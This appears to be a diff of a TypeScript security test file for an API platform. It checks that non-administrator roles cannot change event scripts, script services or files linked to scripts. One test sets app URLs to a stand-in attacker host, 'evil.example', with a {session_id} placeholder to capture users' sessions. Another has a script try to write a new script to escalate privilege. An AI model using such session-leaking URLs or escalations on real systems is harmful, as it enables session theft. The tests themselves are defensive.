@@ -82,6 +82,39 @@ describe('a role for apps alone', () => {
       assert.equal(own.status, 200, generation);
     }, CLOSED));
 
+  it('makes no app receive the session of those who open it, which administrators can', () =>
+    onBoth(async (client, generation) => {
+      await client.signIn();
+      const app = { name: 'Given', type: 2, url: 'https://own.example/?t={session_id}' };
+      const made = await client.call('POST', 'system/app', { body: { resource: [app] } });
+      const given = `system/app/${idOf(made)}`;
+      const { key, appId } = await asRoleFor(client, 'app', 'role');
+      const own = `system/app/${appId}`;
+      const evil = 'https://evil.example/?t=';
+      const other = { resource: [{ name: 'Other', type: 2, url: `${evil}{session_id}` }] };
+      const id = Number(appId);
+      for (const [method, path, body] of [
+        ['POST', 'system/app', other],
+        ['PATCH', own, { type: 2, url: `${evil}{ticket}` }],
+        ['PATCH', own, { type: 1, path: 'x?t=%7Bsession_id%7d' }],
+        ['PATCH', given, { url: `${evil}{session_id}` }],
+        ['PATCH', given, { type: 3 }],
+        [
+          'PATCH',
+          'system/role/2',
+          { app_by_role_id: [{ id, role_id: 2, url: `${evil}{session_id}` }] },
+        ],
+      ] as const) {
+        const { text } = await client.call(method, path, { key, body });
+        assert.match(text, /Only an administrator can send the session/, `${generation} ${path}`);
+      }
+      const same = { description: 'x', type: 2, url: app.url };
+      const kept = await client.call('PATCH', given, { key, body: same });
+      assert.equal(kept.status, 200, `${generation} ${kept.text}`);
+      const moved = await client.call('PATCH', own, { key, body: { type: 2, url: evil } });
+      assert.equal(moved.status, 200, `${generation} ${moved.text}`);
+    }, CLOSED));
+
   it('deletes no files of others with an app', () =>
     onBoth(async (client, generation) => {
       await client.signIn();
@@ -300,36 +333,107 @@ describe('a role for settings without GET', () => {
     }, CLOSED));
 });
 
-describe('a role for event scripts without PATCH', () => {
-  it('creates scripts and replaces none', () =>
+describe('a role for scripts and files', () => {
+  const SENTENCE = /Only an administrator can change scripts on this server/;
+
+  it('runs the scripts of administrators, and stores, replaces and deletes none', () =>
     onBoth(async (client, generation) => {
       await client.signIn();
       const resource = generation === 'classic' ? 'event' : 'event_script';
       const save = (name: string, content: string, key?: string) =>
         client.call('POST', `system/${resource}/${name}`, {
           ...(key && { key }),
-          body: { name, type: 'nodejs', is_active: false, content },
+          body: { name, type: 'nodejs', is_active: true, allow_event_modification: true, content },
         });
-      const old = 'system.role.get.pre_process';
-      const made = 'system.app.get.pre_process';
-      await save(old, 'return 1;');
-      const { key } = await asRoleFor(client, { [resource]: 3 });
-      assert.match(
-        (await save(old, 'return 2;', key)).text,
-        /PATCH access to component/,
-        generation,
-      );
-      const { status, text } = await save(made, 'return 2;', key);
-      assert.ok(status < 300, `${generation} ${text}`);
-      const { body } = await client.call('GET', `system/${resource}/${old}`, { key });
-      assert.equal(body.content, 'return 1;', generation);
+      const old = 'system.app.get.post_process';
+      const made = await save(old, 'event.response.content.seen = 1;');
+      assert.ok(made.status < 300, `${generation} ${made.text}`);
+      const { key } = await asRoleFor(client, resource, 'app');
+      const path = `system/${resource}/${old}`;
+      for (const refused of [
+        await save(old, 'return 2;', key),
+        await save('system.role.get.pre_process', 'return 2;', key),
+        await client.call('DELETE', path, { key }),
+      ]) {
+        assert.equal(refused.status, 403, `${generation} ${refused.text}`);
+        assert.match(refused.text, SENTENCE, generation);
+      }
+      if (generation === 'current') {
+        const resources = { resource: [{ name: old, type: 'nodejs', content: 'return 2;' }] };
+        for (const method of ['POST', 'PUT', 'PATCH']) {
+          const { text } = await client.call(method, `system/${resource}`, {
+            ...{ key, body: resources },
+          });
+          assert.match(text, SENTENCE, method);
+        }
+      }
+      const { body } = await client.call('GET', path, { key });
+      assert.match(String(body.content), /seen = 1/, generation);
+      const apps = await client.call('GET', 'system/app', { key });
+      assert.equal(apps.body.seen, 1, generation);
+    }, CLOSED));
+
+  it('stores none by a script that an administrator runs', () =>
+    onBoth(async (client, generation) => {
+      await client.signIn();
+      const resource = generation === 'classic' ? 'event' : 'event_script';
+      const name = 'system.role.get.pre_process';
+      const script = JSON.stringify({ name, type: 'nodejs', content: 'return 2;' });
+      const content = `return platform.api.post('system/${resource}/${name}', ${script});`;
+      const type = generation === 'classic' ? 'script' : 'nodejs';
+      const config = { content, type: 'nodejs' };
+      const service = { name: 'climb', label: 'climb', type, is_active: true, config };
+      await client.call('POST', 'system/service', { body: { resource: [service] } });
+      assert.match((await client.call('GET', 'climb')).text, /Only an administrator/, generation);
+    }, CLOSED));
+
+  it('changes no file that a script is linked to, by no way', () =>
+    onBoth(async (client, generation) => {
+      await client.signIn();
+      const storage_service_id = Number(await serviceId(client, 'files'));
+      const write = (path: string, body: string, key?: string) =>
+        client.call('PUT', `files/${path}`, {
+          ...{ body, headers: { 'Content-Type': 'text/plain' }, ...(key && { key }) },
+        });
+      await client.call('POST', 'files/code/');
+      await client.call('POST', 'files/own/');
+      await write('code/run.js', 'return 1;');
+      await write('own/run.js', 'return 2;');
+      const link = { storage_service_id, storage_path: '/code//run.js', type: 'nodejs' };
+      const type = generation === 'classic' ? 'script' : 'nodejs';
+      const service = { name: 'linked', label: 'linked', type, is_active: true, config: link };
+      await client.call('POST', 'system/service', { body: { resource: [service] } });
+      const rule = { service_id: null, component: '*', verb_mask: ALL, requestor_mask: 3 };
+      const role = { name: 'Files', is_active: true, role_service_access_by_role_id: [rule] };
+      const roles = await client.call('POST', 'system/role', { body: { resource: [role] } });
+      const app = { name: 'Files', type: 0, is_active: true, role_id: Number(idOf(roles)) };
+      const apps = await client.call('POST', 'system/app?fields=*', { body: { resource: [app] } });
+      const key = String(apps.body.resource[0]?.api_key);
+      client.token = undefined;
+      const copy = { name: 'run.js', type: 'file', source_path: 'own/run.js' };
+      const post = (path: string, record: object) =>
+        client.call('POST', `files/${path}`, { key, body: { resource: [record] } });
+      for (const answer of [
+        await write('code/run.js', 'return 2;', key),
+        await write('Code/RUN.js', 'return 2;', key),
+        await post('code/', { name: 'run.js', type: 'file', content: 'return 2;' }),
+        await post('code/', copy),
+        await post('', { name: 'away', type: 'folder', source_path: 'code', delete_source: true }),
+        await client.call('DELETE', 'files/code/run.js', { key }),
+        await client.call('DELETE', 'files/code/?force=true', { key }),
+      ]) {
+        assert.match(answer.text, /because a script is linked to it/, generation);
+      }
+      assert.ok((await write('code/other.js', 'x', key)).status < 300, generation);
+      const { text } = await client.call('GET', 'linked', { key });
+      assert.equal(text, '1', generation);
     }, CLOSED));
 });
 
 describe('a role for services alone', () => {
   const refused = async (client: PlatformClient, method: string, path: string, sent: unknown) => {
     const { status, text } = await client.call(method, path, sent as object);
-    assert.match(text, /Only an administrator can do this/, `${status} ${text}`);
+    assert.match(text, /Only an administrator can (do this|change scripts)/, `${status} ${text}`);
   };
   const service = (name: string, type: string, config?: object) => ({
     resource: [{ name, label: name, description: '', type, is_active: true, config }],
@@ -360,18 +464,26 @@ describe('a role for services alone', () => {
       }
     }, CLOSED));
 
-  it('makes no file service of a script', () =>
+  it('stores no script and changes none, but its label', () =>
     onBoth(async (client, generation) => {
-      const { key } = await asRoleFor(client, 'service');
+      await client.signIn();
       const type = generation === 'classic' ? 'script' : 'nodejs';
-      const config = { content: 'return 1;', type: 'nodejs', container: 'app' };
+      const config = { content: 'return 1;', type: 'nodejs' };
       const made = await client.call('POST', 'system/service', {
-        ...{ key, body: service('mine', type, config) },
+        ...{ body: service('mine', type, config) },
       });
       assert.equal(made.status, 201, made.text);
       const path = `system/service/${idOf(made)}`;
+      const { key } = await asRoleFor(client, 'service');
+      const other = { ...config, content: 'return 2;' };
+      await refused(client, 'POST', 'system/service', { key, body: service('own', type, other) });
+      await refused(client, 'PATCH', path, { key, body: { config: other } });
+      const file = { storage_service_id: 1, storage_path: 'a.js', type: 'nodejs' };
+      await refused(client, 'PATCH', path, { key, body: { config: file } });
       await refused(client, 'PATCH', path, { key, body: { type: 'local_file' } });
-      const renamed = await client.call('PATCH', path, { key, body: { label: 'Mine' } });
+      const { body: seen } = await client.call('GET', path, { key });
+      const relabeled = { label: 'Mine', config: seen.config };
+      const renamed = await client.call('PATCH', path, { key, body: relabeled });
       assert.equal(renamed.status, 200, renamed.text);
     }, CLOSED));
 
@@ -406,8 +518,9 @@ describe('a role for services alone', () => {
       for (const name of ['SYSTEM', 'other']) {
         await refused(client, 'PATCH', path, { key, body: { name } });
       }
+      await client.signIn();
       const { text } = await client.call('POST', 'system/service', {
-        ...{ key, body: service('SYSTEM', type, config) },
+        ...{ body: service('SYSTEM', type, config) },
       });
       assert.match(text, /'system' is the name of another|Duplicate entry/, generation);
     }, CLOSED));
@@ -427,33 +540,6 @@ describe('a role for services alone', () => {
         const { status, text } = await client.call('PATCH', path, { key, body });
         assert.equal(status, 200, `${generation} ${text}`);
       }
-    }, CLOSED));
-
-  it('links no script to a file that it may not read, whose syntax errors would quote it', () =>
-    onBoth(async (client, generation) => {
-      await client.signIn();
-      const link = { storage_service_id: Number(await serviceId(client, 'files')) };
-      const type = generation === 'classic' ? 'script' : 'nodejs';
-      const before = { ...link, storage_path: 'a.js', type: 'nodejs' };
-      const made = await client.call('POST', 'system/service', {
-        body: service('known', type, before),
-      });
-      const scripts = generation === 'classic' ? 'event' : 'event_script';
-      const { key } = await asRoleFor(client, 'service', scripts);
-      const config = { ...before, storage_path: 'private/minutes.txt' };
-      const path = `system/service/${idOf(made)}`;
-      const name = 'shop._table.todo.get.pre_process';
-      for (const [method, where, body] of [
-        ['POST', 'system/service', service('mine', type, config)],
-        ['PATCH', path, { config }],
-        ['POST', `system/${scripts}/${name}`, { name, ...config }],
-      ] as const) {
-        const { text } = await client.call(method, where, { key, body });
-        assert.match(text, /GET access to component 'private.minutes.txt'/, generation);
-      }
-      const same = { label: 'Known', config: before };
-      const kept = await client.call('PATCH', path, { key, body: same });
-      assert.equal(kept.status, 200, `${generation} ${kept.text}`);
     }, CLOSED));
 
   it('learns from no answer whether it has guessed a secret', async () => {
